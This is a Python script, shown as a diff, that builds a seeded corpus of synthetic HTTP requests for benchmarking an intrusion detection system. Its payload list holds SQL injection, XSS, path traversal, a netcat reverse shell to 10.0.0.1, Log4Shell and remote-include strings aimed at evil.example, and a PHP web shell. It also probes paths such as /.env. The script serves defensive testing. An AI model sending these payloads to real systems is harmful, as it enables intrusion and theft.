@@ -0,0 +1,149 @@
+"""
+	Creates a fixed corpus of requests (in the format of RequestData.create_dict()) for the benchmarks.
+	The same seed always yields the same corpus.
+"""
+import random, json, sys
+from urllib.parse import quote
+
+PAGES = ["/", "/index.php", "/products", "/products/item.php", "/blog/2020/05/title-of-a-post", "/search",
+	"/account/login", "/account/settings", "/cart", "/api/v1/items", "/about.html", "/contact"]
+ASSETS = ["/static/css/main.css", "/static/js/app.min.js", "/images/logo.png", "/favicon.ico", "/fonts/open-sans.woff2"]
+WORDS = ["shoes", "red", "summer", "sale", "laptop", "coffee", "garden", "book", "phone", "music"]
+
+BROWSERS = [
+	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0.4240.111 Safari/537.36",
+	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:82.0) Gecko/20100101 Firefox/82.0",
+	"Mozilla/5.0 (iPhone; CPU iPhone OS 14_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.0 Mobile/15E148 Safari/604.1"
+]
+SCANNERS = [
+	"sqlmap/1.4.10#stable (http://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
+	"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "python-requests/2.24.0", "curl/7.68.0"
+]
+PAYLOADS = [
+	"1' OR '1'='1", "1 UNION SELECT username, password FROM users--", "'; DROP TABLE users; --",
+	"<script>alert(document.cookie)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
+	"../../../../etc/passwd", "..%2f..%2f..%2fwindows%2fwin.ini", "http://evil.example/shell.txt?",
+	"; cat /etc/passwd", "| nc -e /bin/sh 10.0.0.1 4444", "() { :; }; /bin/bash -c 'id'",
+	"%s%s%s%s%s%n", "A" * 300, "${jndi:ldap://evil.example/a}", "<?php system($_GET['c']); ?>"
+]
+SCANNED = ["/wp-login.php", "/admin/", "/phpmyadmin/index.php", "/.git/config", "/.env", "/cgi-bin/test.cgi",
+	"/server-status", "/backup.zip", "/config.php.bak", "/etc/passwd"]
+
+def headers(rng, user_agent, extra={}):
+	"""
+		Returns typical headers of a client.
+	"""
+	header = {
+		"Host": "shop.example",
+		"User-Agent": user_agent,
+		"Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+		"Accept-Language": "en-US,en;q=0.5",
+		"Accept-Encoding": "gzip, deflate",
+		"Connection": "keep-alive"
+	}
+	if rng.random() < 0.6:
+		header["Cookie"] = "lang=en; theme=" + rng.choice(["dark", "light"])
+	if rng.random() < 0.3:
+		header["Referer"] = "https://shop.example" + rng.choice(PAGES)
+	header.update(extra)
+	return header
+
+def request(rng, i, connection_id, method, uri, header, body="", category="benign"):
+	"""
+		Returns a request in the format used by the IDS.
+	"""
+	return {
+		"id" : i,
+		"timestamp" : 1600000000 + i,
+		"connection-id" : connection_id,
+		"request" : {
+			"method": method,
+			"uri": uri,
+			"protocol": "HTTP/1.1",
+			"body": body
+		},
+		"header" : header,
+		"sender" : {
+			"ip" : "10.0." + str(connection_id // 256 % 256) + "." + str(connection_id % 256)
+		},
+		"honeypot" : {
+			"used-emulator" : "",
+			"response-hash" : "",
+			"response-size" : 0,
+			"response-status-code" : "",
+			"response-header" : {}
+		},
+		"category" : category
+	}
+
+def benign(rng, i):
+	"""
+		A request of a user browsing the application.
+	"""
+	connection_id = rng.randint(0, 50)
+	header = headers(rng, rng.choice(BROWSERS))
+	kind = rng.random()
+	if kind < 0.4:
+		return request(rng, i, connection_id, "GET", rng.choice(ASSETS), header)
+	elif kind < 0.8:
+		query = ""
+		if rng.random() < 0.5:
+			query = "?q=" + quote(" ".join(rng.sample(WORDS, 2))) + "&page=" + str(rng.randint(1, 9))
+		return request(rng, i, connection_id, "GET", rng.choice(PAGES) + query, header)
+	else:
+		body = {"user": "user" + str(connection_id), "comment": " ".join(rng.choices(WORDS, k=8)), "submit": "Send"}
+		header["Content-Type"] = "application/x-www-form-urlencoded"
+		header["Content-Length"] = str(len("&".join(k + "=" + v for k, v in body.items())))
+		header["Origin"] = "https://shop.example"
+		return request(rng, i, connection_id, "POST", rng.choice(PAGES), header, body)
+
+def scanner(rng, i):
+	"""
+		A request of a scanner probing for vulnerabilities.
+	"""
+	connection_id = 1000 + rng.randint(0, 5)
+	header = headers(rng, rng.choice(SCANNERS))
+	payload = rng.choice(PAYLOADS)
+	kind = rng.random()
+	if kind < 0.3:
+		return request(rng, i, connection_id, "GET", rng.choice(SCANNED), header, category="scanner")
+	elif kind < 0.8:
+		params = "&".join(name + "=" + quote(payload if rng.random() < 0.5 else rng.choice(WORDS)) for name in rng.sample(["id", "q", "page", "file", "cat", "user"], 3))
+		return request(rng, i, connection_id, "GET", rng.choice(PAGES) + "?" + params, header, category="scanner")
+	else:
+		body = {"user": payload, "password": "x", "submit": "Login"}
+		header["Content-Type"] = "application/x-www-form-urlencoded"
+		return request(rng, i, connection_id, "POST", "/account/login", header, body, category="scanner")
+
+def oversized(rng, i):
+	"""
+		A request with very long inputs (uri, parameters, body, headers).
+	"""
+	connection_id = 2000 + rng.randint(0, 5)
+	header = headers(rng, rng.choice(BROWSERS + SCANNERS), {
+		"X-Custom-" + str(n) : "v" * rng.randint(10, 200) for n in range(rng.randint(10, 40))
+	})
+	header["Cookie"] = "; ".join("c" + str(n) + "=" + "x" * 100 for n in range(50))
+	kind = rng.random()
+	if kind < 0.5:
+		params = "&".join("p" + str(n) + "=" + quote(" ".join(rng.choices(WORDS + PAYLOADS, k=5))) for n in range(rng.randint(50, 200)))
+		return request(rng, i, connection_id, "GET", "/search?" + params, header, category="oversized")
+	else:
+		body = {"field" + str(n): " ".join(rng.choices(WORDS + PAYLOADS, k=50)) for n in range(rng.randint(20, 100))}
+		header["Content-Type"] = "application/x-www-form-urlencoded"
+		return request(rng, i, connection_id, "POST", "/upload" + "/a" * rng.randint(100, 1000), header, body, category="oversized")
+
+def create_corpus(benign_count=400, scanner_count=200, oversized_count=20, seed=42):
+	"""
+		Returns the requests of the corpus, mixed in a fixed order. Each request has the
+		additional property 'category' (benign, scanner or oversized).
+	"""
+	rng = random.Random(seed)
+	kinds = [benign] * benign_count + [scanner] * scanner_count + [oversized] * oversized_count
+	rng.shuffle(kinds)
+	return [kind(rng, i) for i, kind in enumerate(kinds)]
+
+# Write the corpus as json, run via:
+#	python benchmarks/corpus.py > corpus.json
+if __name__ == "__main__":
+	json.dump(create_corpus(), sys.stdout, indent=1)